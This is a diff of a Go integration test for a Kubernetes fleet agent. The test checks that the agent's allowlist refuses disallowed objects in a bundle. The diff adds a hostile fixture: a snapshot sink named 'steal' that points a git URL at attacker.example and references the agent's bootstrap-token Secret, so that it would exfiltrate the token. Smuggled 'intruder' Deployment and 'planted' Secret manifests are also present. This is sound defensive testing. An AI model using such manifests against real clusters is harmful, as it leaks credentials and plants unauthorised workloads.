@@ -41,12 +41,26 @@ spec:
     - {name: color, jsonPath: "{.data.color}"}
 `
 
+// besideTheCredentials is a sink placed in the agent's own namespace, naming the agent's
+// bootstrap-token Secret: admitted, its first probe would send the token to the bundle
+// author's server. The agent's namespace is never open to bundles, whatever --hub-namespaces.
+const besideTheCredentials = `---
+apiVersion: kollect.dev/v1alpha1
+kind: KollectSnapshotSink
+metadata: {name: steal, namespace: kollect-system}
+spec:
+  type: git
+  git:
+    url: https://attacker.example/r.git
+    secretRef: {name: kollect-hub-bootstrap}
+`
+
 // smuggled is what the hub's API refuses to store (not kollect.dev kinds) and what a
 // compromised or buggy hub could still send: the agent's allowlist is the last line.
 const smuggled = `---
 apiVersion: apps/v1
 kind: Deployment
-metadata: {name: intruder, namespace: kollect-system}
+metadata: {name: intruder, namespace: kollect-fleet}
 spec:
   selector: {matchLabels: {app: intruder}}
   template:
@@ -55,14 +69,14 @@ spec:
 ---
 apiVersion: v1
 kind: Secret
-metadata: {name: planted, namespace: kollect-system}
+metadata: {name: planted, namespace: kollect-fleet}
 stringData: {token: planted}
 `
 
-// TestAllowlistRefusals: the shipped agent, started with --hub-namespaces kollect-system,
+// TestAllowlistRefusals: the shipped agent, started with --hub-namespaces kollect-fleet,
 // gets a bundle revision holding a Deployment, a Secret (both written into the hub's store
-// behind its API, which refuses them) and a KollectProfile in a namespace outside its
-// allowlist. It applies the one allowed object, refuses the others by name in its heartbeat
+// behind its API, which refuses them), a KollectProfile in a namespace outside its allowlist
+// and a sink in the agent's own namespace that names its bootstrap-token Secret. It applies the one allowed object, refuses the others by name in its heartbeat
 // (which the dashboard's cluster page shows), the hub shows the cluster out of sync, and the
 // kube-apiserver's own request counter shows no write of a Deployment or Secret meanwhile.
 func TestAllowlistRefusals(t *testing.T) {
@@ -90,13 +104,13 @@ func TestAllowlistRefusals(t *testing.T) {
 		!strings.Contains(err.Error(), "Deployment") {
 		t.Fatalf("the hub's API stored a Deployment: %v", err)
 	}
-	startAgentBinary(t, bins.agent, cp, h, token, "env=allow", "--hub-namespaces", "kollect-system")
+	startAgentBinary(t, bins.agent, cp, h, token, "env=allow", "--hub-namespaces", "kollect-fleet")
 	waitApplied(t, h, cp.Name, "restricted", 1)
 
 	// Revision 2, held, then rewritten in the store with what the API refused, and handed
 	// to the cluster there.
 	if _, err := admin.ApplyBundle(ctx, connect.NewRequest(&fleetv1.ApplyBundleRequest{Name: "restricted",
-		Manifests: fmt.Sprintf(allowedProfile, "second") + outsideProfile, ClusterSelector: selector, Hold: true})); err != nil {
+		Manifests: fmt.Sprintf(allowedProfile, "second") + outsideProfile + besideTheCredentials, ClusterSelector: selector, Hold: true})); err != nil {
 		t.Fatal(err)
 	}
 	before, err := cp.Writes(ctx, "deployments", "secrets")
@@ -112,9 +126,10 @@ func TestAllowlistRefusals(t *testing.T) {
 		"UPDATE hub_state SET value = value + 1 WHERE key = 'config_epoch'")
 
 	want := map[string]string{
-		"Deployment kollect-system/intruder": "is not a Kollect kind",
-		"Secret kollect-system/planted":      "is not a Kollect kind",
-		"KollectProfile team-x/outside":      "namespace team-x is not in the agent's allowlist (kollect-system)",
+		"Deployment kollect-fleet/intruder":        "is not a Kollect kind",
+		"Secret kollect-fleet/planted":             "is not a Kollect kind",
+		"KollectProfile team-x/outside":            "namespace team-x is not in the agent's allowlist (kollect-fleet)",
+		"KollectSnapshotSink kollect-system/steal": "namespace kollect-system is the agent's own",
 	}
 	var objects []*fleetv1.ObjectResult
 	eventually(t, 60*time.Second, "revision 2's refusals in the heartbeat", func() (bool, string) {
@@ -140,7 +155,7 @@ func TestAllowlistRefusals(t *testing.T) {
 				t.Errorf("%s: %s %q, want REFUSED with %q", name, o.GetResult(), o.GetMessage(), reason)
 			}
 			delete(want, name)
-		} else if name != "KollectProfile kollect-system/allowed" || o.GetResult() != fleetv1.ApplyResult_APPLY_RESULT_APPLIED {
+		} else if name != "KollectProfile kollect-fleet/allowed" || o.GetResult() != fleetv1.ApplyResult_APPLY_RESULT_APPLIED {
 			t.Errorf("unexpected result %s %s", name, o.GetResult())
 		}
 	}
@@ -160,16 +175,17 @@ func TestAllowlistRefusals(t *testing.T) {
 		t.Errorf("the kube-apiserver served %d writes of deployments or secrets while the agent refused them", after-before)
 	}
 	for _, o := range []client.Object{
-		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-system", Name: "intruder"}},
-		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-system", Name: "planted"}},
+		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-fleet", Name: "intruder"}},
+		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-fleet", Name: "planted"}},
 		&kollectv1.KollectProfile{ObjectMeta: metav1.ObjectMeta{Namespace: "team-x", Name: "outside"}},
+		&kollectv1.KollectSnapshotSink{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-system", Name: "steal"}},
 	} {
 		if err := cp.Client.Get(ctx, client.ObjectKeyFromObject(o), o); !apierrors.IsNotFound(err) {
 			t.Errorf("%T %s: %v, want NotFound", o, client.ObjectKeyFromObject(o), err)
 		}
 	}
 	allowed := &kollectv1.KollectProfile{}
-	if err := cp.Client.Get(ctx, client.ObjectKey{Namespace: "kollect-system", Name: "allowed"}, allowed); err != nil ||
+	if err := cp.Client.Get(ctx, client.ObjectKey{Namespace: "kollect-fleet", Name: "allowed"}, allowed); err != nil ||
 		allowed.Spec.Attributes[0].Description != "second" {
 		t.Errorf("the allowed object of revision 2 was not applied: %v %+v", err, allowed.Spec.Attributes)
 	}
@@ -179,7 +195,7 @@ func TestAllowlistRefusals(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if cl := c.Msg.GetCluster(); cl.GetConfigInSync() || len(cl.GetBundles()) != 1 || cl.GetBundles()[0].GetFailedObjects() != 3 {
+	if cl := c.Msg.GetCluster(); cl.GetConfigInSync() || len(cl.GetBundles()) != 1 || cl.GetBundles()[0].GetFailedObjects() != 4 {
 		t.Errorf("cluster with refused objects: in sync %v, bundles %v", cl.GetConfigInSync(), cl.GetBundles())
 	}
 }
